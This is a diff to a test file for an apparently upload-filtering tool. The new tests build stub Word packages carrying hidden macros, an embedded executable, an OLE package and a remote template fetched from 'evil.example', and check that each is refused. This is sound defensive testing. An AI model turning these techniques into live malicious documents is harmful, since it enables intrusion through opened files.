@@ -459,3 +459,89 @@ def test_exif_inside_a_webp_animation_frame_goes() -> None:
     assert b"GPS48.85" not in cleaned
     with Image.open(io.BytesIO(cleaned)) as image:
         assert getattr(image, "n_frames", 1) == 2
+
+
+# Office files that would run or fetch something when opened, judged by content
+
+DOCX_TYPES = (
+    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
+    'package/2006/content-types"><Default Extension="rels" ContentType="application/'
+    'vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
+    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
+    'main+xml"/></Types>'
+)
+RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
+    'openxmlformats.org/package/2006/relationships">{}</Relationships>'
+)
+
+
+def docx(parts: dict[str, bytes | str]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as package:
+        package.writestr("[Content_Types].xml", DOCX_TYPES)
+        package.writestr("word/document.xml", "<w:document/>")
+        for name, content in parts.items():
+            package.writestr(name, content)
+    return out.getvalue()
+
+
+def relationship(kind: str, target: str, external: bool = False) -> str:
+    mode = ' TargetMode="External"' if external else ""
+    return (
+        f'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/'
+        f'2006/relationships/{kind}" Target="{target}"{mode}/>'
+    )
+
+
+OLE_PACKAGE = (
+    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "Ole10Native".encode("utf-16-le")
+)
+
+
+@pytest.mark.parametrize(
+    ("parts", "what"),
+    [
+        # The VBA project renamed, found by the relationship that names it.
+        (
+            {
+                "word/_rels/document.xml.rels": RELS.format(
+                    '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/'
+                    'relationships/vbaProject" Target="notes.dat"/>'
+                ),
+                "word/notes.dat": b"\x00VBA",
+            },
+            "an Office file with macros",
+        ),
+        (
+            {
+                "word/_rels/settings.xml.rels": RELS.format(
+                    relationship("attachedTemplate", "https://evil.example/t.dotm", external=True)
+                )
+            },
+            "an Office file that fetches a template or content from elsewhere",
+        ),
+        (
+            {"word/embeddings/tool.bin": b"MZ\x90\x00" + b"\x00" * 60},
+            "an Office file with a program inside",
+        ),
+        ({"word/embeddings/oleObject1.bin": OLE_PACKAGE}, "an Office file with an embedded file"),
+    ],
+)
+def test_an_office_file_that_would_run_or_fetch_something_is_refused(
+    parts: dict[str, bytes | str], what: str
+) -> None:
+    with pytest.raises(MediaRefused) as refused:
+        check("minutes.docx", docx(parts))
+    assert refused.value.reason == (
+        f"minutes.docx is not a picture or a document Send accepts (it is {what})."
+    )
+
+
+def test_an_ordinary_office_file_with_links_and_an_internal_template_passes() -> None:
+    rels = RELS.format(
+        relationship("hyperlink", "https://contoso.example/agenda", external=True)
+        + relationship("attachedTemplate", "Normal.dotm")
+    )
+    accepted = check("minutes.docx", docx({"word/_rels/settings.xml.rels": rels}))
+    assert accepted.content_type.endswith("wordprocessingml.document")
